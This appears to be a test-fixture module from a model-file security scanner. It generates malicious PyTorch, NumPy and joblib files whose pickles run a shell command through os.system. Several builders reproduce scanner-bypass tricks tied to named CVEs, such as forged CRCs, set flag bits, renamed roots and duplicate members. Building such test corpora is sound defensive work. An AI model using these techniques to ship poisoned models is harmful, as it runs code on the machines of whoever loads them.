"""Malicious containers: PyTorch zip/legacy/TorchScript, NumPy, joblib, zip and tar archives."""

# ruff: noqa: PLC0415 - heavy ML libraries are imported only by the builders that need them
from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

from tests.scanners.malicious_registry import (
    DANGEROUS,
    TORCH_MAGIC,
    Reduce,
    cmd,
    system_pickle,
    technique,
    write_zip,
)


# --- PyTorch containers -----------------------------------------------------------------------------
def _torch_zip_members() -> list[tuple[str, bytes]]:
    import torch

    buffer = io.BytesIO()
    torch.save({"w": torch.ones(2, 2)}, buffer)
    buffer.seek(0)
    with zipfile.ZipFile(buffer) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _evil_members(marker: Path, root: str = "archive") -> list[tuple[str, bytes]]:
    members = []
    for name, data in _torch_zip_members():
        rest = name.split("/", 1)[1]
        payload = system_pickle(marker, version=2) if rest == "data.pkl" else data
        members.append((f"{root}/{rest}", payload))
    return members


@technique(
    "torch_zip_data_pkl",
    "evil_zip.pt",
    "payload in data.pkl of a zip checkpoint",
    "JFrog 2024 baller423 model",
    DANGEROUS,
)
def _torch_zip(out: Path, marker: Path) -> None:
    write_zip(out, _evil_members(marker))


@technique(
    "torch_zip_renamed_root",
    "renamed.pt",
    "zip checkpoint whose root folder is not 'archive'",
    "CVE-2025-1944 (Sonatype)",
    DANGEROUS,
)
def _renamed(out: Path, marker: Path) -> None:
    write_zip(out, _evil_members(marker, root="innocent_weights"))


@technique(
    "torch_zip_duplicate_data_pkl",
    "duplicate.pt",
    "two data.pkl members (benign first)",
    "ModelAudit zip duplicate rule",
    DANGEROUS,
    "archive.duplicate-member",
)
def _duplicate(out: Path, marker: Path) -> None:
    members = _torch_zip_members()
    evil = ("archive/data.pkl", system_pickle(marker))
    write_zip(out, [*members, evil])


@technique(
    "torch_zip_bad_crc",
    "badcrc.pt",
    "CRC mismatch (zipfile refuses, torch loads)",
    "CVE-2025-10156 (JFrog)",
    DANGEROUS,
)
def _bad_crc(out: Path, marker: Path) -> None:
    write_zip(out, _evil_members(marker))
    data = bytearray(out.read_bytes())
    for signature, crc_offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        start = 0
        while (pos := data.find(signature, start)) >= 0:
            name_len = struct.unpack(
                "<H",
                data[
                    pos + (26 if signature == b"PK\x03\x04" else 28) : pos
                    + (28 if signature == b"PK\x03\x04" else 30)
                ],
            )[0]
            header = 30 if signature == b"PK\x03\x04" else 46
            if data[pos + header : pos + header + name_len].endswith(b"data.pkl"):
                data[pos + crc_offset : pos + crc_offset + 4] = b"\xde\xad\xbe\xef"
            start = pos + 4
    out.write_bytes(bytes(data))


@technique(
    "torch_zip_flag_bits",
    "flags.pt",
    "encryption flag bit set on a plain data.pkl",
    "CVE-2025-1945 (Sonatype)",
    DANGEROUS,
)
def _flags(out: Path, marker: Path) -> None:
    write_zip(out, _evil_members(marker))
    data = bytearray(out.read_bytes())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (pos := data.find(signature, start)) >= 0:
            data[pos + flag_offset] |= 0x01
            start = pos + 4
    out.write_bytes(bytes(data))


@technique(
    "torch_zip_extra_member",
    "extra.pt",
    "extra pickle member beside a benign data.pkl",
    "picklescan all-members scanning",
    DANGEROUS,
)
def _extra(out: Path, marker: Path) -> None:
    write_zip(out, [*_torch_zip_members(), ("archive/extra/hooks.pkl", system_pickle(marker))])


@technique(
    "torch_zip_deflated",
    "deflated.pt",
    "payload in a deflated data.pkl",
    "miniz reads deflated members",
    DANGEROUS,
)
def _deflated(out: Path, marker: Path) -> None:
    write_zip(out, _evil_members(marker), compress=zipfile.ZIP_DEFLATED)


@technique(
    "torchscript_code",
    "script.pt",
    "TorchScript archive whose code/ calls out of tensor math",
    "CVE-2025-32434 (TorchScript path)",
    "pytorch.torchscript-suspicious",
)
def _torchscript(out: Path, marker: Path) -> None:
    import torch

    module = torch.jit.script(torch.nn.Linear(2, 2))
    buffer = io.BytesIO()
    torch.jit.save(module, buffer)
    buffer.seek(0)
    with zipfile.ZipFile(buffer) as archive:
        members = [(i.filename, archive.read(i)) for i in archive.infolist()]
    root = members[0][0].split("/", 1)[0]
    code = f'def forward(self, x):\n    torch.ops.evil_ns.run("{cmd(marker)}")\n    return x\n'.encode()
    write_zip(out, [*members, (f"{root}/code/__torch__/evil.py", code)])


@technique(
    "torch_legacy_magic",
    "legacy.bin",
    "legacy magic-number format with a payload object pickle",
    "PyTorch legacy format",
    DANGEROUS,
)
def _legacy(out: Path, marker: Path) -> None:
    parts = [pickle.dumps(TORCH_MAGIC, 2), pickle.dumps(1001, 2), pickle.dumps({"little_endian": True}, 2)]
    out.write_bytes(b"".join(parts) + system_pickle(marker, 2) + pickle.dumps([], 2))


@technique(
    "torch_legacy_tar",
    "legacy_tar.pt",
    "legacy tar format with a payload in 'pickle'",
    "PyTorch <= 0.1.10 format",
    DANGEROUS,
)
def _legacy_tar(out: Path, marker: Path) -> None:
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1000}, 2),
        "pickle": system_pickle(marker, 2),
        "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
        "tensors": pickle.dumps(0, 2),
    }
    with tarfile.open(out, "w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))


@technique(
    "seven_zip_wrapper",
    "model_7z.pt",
    "checkpoint compressed with 7z (unscannable)",
    "ReversingLabs nullifAI (2025)",
    "archive.unscannable-container",
)
def _seven_zip(out: Path, marker: Path) -> None:
    out.write_bytes(b"7z\xbc\xaf\x27\x1c\x00\x04" + os.urandom(64) + system_pickle(marker))


# --- NumPy and joblib -------------------------------------------------------------------------------
def _npy_object(marker: Path) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + system_pickle(marker, 3)


@technique(
    "npy_object_array",
    "arr.npy",
    "object array whose data pickle runs a command",
    "numpy allow_pickle CVE-2019-6446",
    DANGEROUS,
)
def _npy(out: Path, marker: Path) -> None:
    out.write_bytes(_npy_object(marker))


@technique(
    "npz_pickled_member",
    "arrays.npz",
    "npz with an object-array member and a raw pickle member",
    "modelscan npz support",
    DANGEROUS,
)
def _npz(out: Path, marker: Path) -> None:
    write_zip(
        out,
        [("weights.npy", _npy_object(marker)), ("meta.pkl", system_pickle(marker))],
        compress=zipfile.ZIP_DEFLATED,
    )


def _joblib_technique(compression: str) -> None:
    @technique(
        f"joblib_{compression}",
        f"model_{compression}.joblib",
        f"joblib.dump with compress={compression}",
        "JFrog/ReversingLabs joblib payloads",
        DANGEROUS,
    )
    def _build(out: Path, marker: Path) -> None:
        import joblib  # type: ignore[import-untyped]

        joblib.dump(Reduce(os.system, cmd(marker)), out, compress=(compression, 3))


for _compression in ("zlib", "gzip", "bz2", "xz", "lzma"):
    _joblib_technique(_compression)


@technique(
    "joblib_arrays_then_payload",
    "model_arrays.joblib",
    "uncompressed joblib: raw array bytes, then a payload",
    "joblib NumpyArrayWrapper format",
    DANGEROUS,
)
def _joblib_arrays(out: Path, marker: Path) -> None:
    import joblib
    import numpy as np

    joblib.dump(
        {
            "coef": np.arange(1000.0),
            "names": np.array(["a", "b"], dtype=object),
            "hook": Reduce(os.system, cmd(marker)),
        },
        out,
    )
